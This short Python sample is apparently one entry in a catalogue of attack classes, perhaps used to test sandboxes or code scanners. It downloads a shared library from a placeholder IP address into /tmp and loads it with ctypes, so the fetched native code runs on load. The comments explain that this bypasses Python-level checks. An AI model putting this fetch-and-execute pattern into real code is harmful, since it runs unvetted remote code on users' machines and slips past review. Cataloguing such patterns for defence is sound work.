# attack-class: 9
# title: download a shared object to /tmp and ctypes-load it
# why: native code fetched at run time; its ELF constructor runs on load, outside any Python check

import ctypes
import urllib.request

# the shared object's constructor runs the moment it is loaded
blob = urllib.request.urlopen("http://203.0.113.9/libfast.so").read()
with open("/tmp/libfast.so", "wb") as fh:
    fh.write(blob)
ctypes.CDLL("/tmp/libfast.so")
